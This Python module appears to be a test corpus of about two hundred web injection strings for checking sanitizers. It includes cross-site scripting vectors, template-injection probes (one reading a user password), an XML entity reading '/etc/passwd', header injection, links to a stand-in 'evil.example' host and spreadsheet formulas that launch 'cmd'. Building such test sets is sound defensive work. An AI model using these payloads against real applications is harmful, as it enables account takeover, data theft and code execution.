"""Two hundred texts that want to be more than text. Each marks what it would make: `data-qzx`, or `window.qzx`."""

from __future__ import annotations

VECTORS = [
    "<script data-qzx>window.qzx=1</script>",
    "<img src=x data-qzx onerror=window.qzx=1>",
    "<svg data-qzx onload=window.qzx=1><g/></svg>",
    "<svg data-qzx><script>window.qzx=1</script></svg>",
    "<iframe data-qzx srcdoc='<script>parent.qzx=1</script>'></iframe>",
    "<iframe data-qzx src=javascript:parent.qzx=1></iframe>",
    "<a data-qzx href='javascript:window.qzx=1'>go</a>",
    "<form data-qzx action=javascript:window.qzx=1><button>go</button></form>",
    "<input data-qzx autofocus onfocus=window.qzx=1>",
    "<details data-qzx open ontoggle=window.qzx=1>x</details>",
    "<math data-qzx><mtext><mglyph><style><img src=x onerror=window.qzx=1></style></mglyph></mtext></math>",
    "<object data-qzx data='data:text/html,<script>parent.qzx=1</script>'></object>",
    "<link data-qzx rel=stylesheet href=//evil.example/x.css>",
    "<meta data-qzx http-equiv=refresh content='0;url=javascript:window.qzx=1'>",
    "<base data-qzx href=//evil.example/>",
    "<div data-qzx hx-get=/settings hx-trigger=load hx-on:htmx:load='window.qzx=1'>x</div>",
    "<template data-qzx><script>window.qzx=1</script></template>",
]
WAYS_OUT = [
    "{}",
    '">{}',
    "'>{}",
    "</title>{}",
    "</textarea>{}",
    "</script>{}",
    "</style>{}",
    "-->{}",
    "]]>{}",
    "</option></select>{}",
]
OTHERS = [
    '" data-qzx="1',
    "' data-qzx='1",
    '" autofocus onfocus="window.qzx=1" data-qzx="1',
    "` data-qzx=1 onload=window.qzx=1 `",
    "javascript:window.qzx=1",
    "JaVaScRiPt&#58;window.qzx=1//",
    " \tjavascript:window.qzx=1",
    "data:text/html,<script>parent.qzx=1</script>",
    "//evil.example/%2f..",
    "{{ 7|add:request.user.password }}",
    "{% load i18n %}{% debug %}",
    "{{ request.META.items }}",
    "${window.qzx=1}",
    "#{7*7} <%= 7*7 %>",
    "%(name)s %s %n {0} {name!r:>1000000}",
    "<scr<script data-qzx>ipt>window.qzx=1</scr</script>ipt>",
    "\u003cimg src=x data-qzx onerror=window.qzx=1\u003e",
    "&lt;img src=x data-qzx onerror=window.qzx=1&gt;",
    "＜img src=x data-qzx onerror=window.qzx=1＞",
    "\u202e<img src=x data-qzx onerror=window.qzx=1>\u202c",
    "\u2028<img src=x data-qzx onerror=window.qzx=1>\u2029",
    "\ufeff<img\u00a0src=x data-qzx onerror=window.qzx=1>",
    "<img\x0csrc=x\x0cdata-qzx\x0conerror=window.qzx=1>",
    "<?xml version='1.0'?><!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]><x data-qzx>&e;</x>",
    '=HYPERLINK("http://evil.example/","<b data-qzx>x</b>")',
    "x\r\nSet-Cookie: qzx=1",
    "a" * 150 + "<b data-qzx>",
    "'; window.qzx=1; //",
    '\\"; window.qzx=1; //',
    "</p><plaintext data-qzx>",
    "<x-qzx data-qzx tabindex=1 onfocus=window.qzx=1>",
    "<!--><img src=x data-qzx onerror=window.qzx=1>-->",
]
PAYLOADS = [*(out.format(vector) for out in WAYS_OUT for vector in VECTORS), *OTHERS]

FORMULAS = [
    before + start + "cmd|' /C calc'!A0"
    for before in ("", " ", "\t", '"', "'", "\u00a0", "\u200b", "\u3000", "''\"", "«")
    for start in ("=", "+", "-", "@", "＝", "＋", "－", "＠")
]
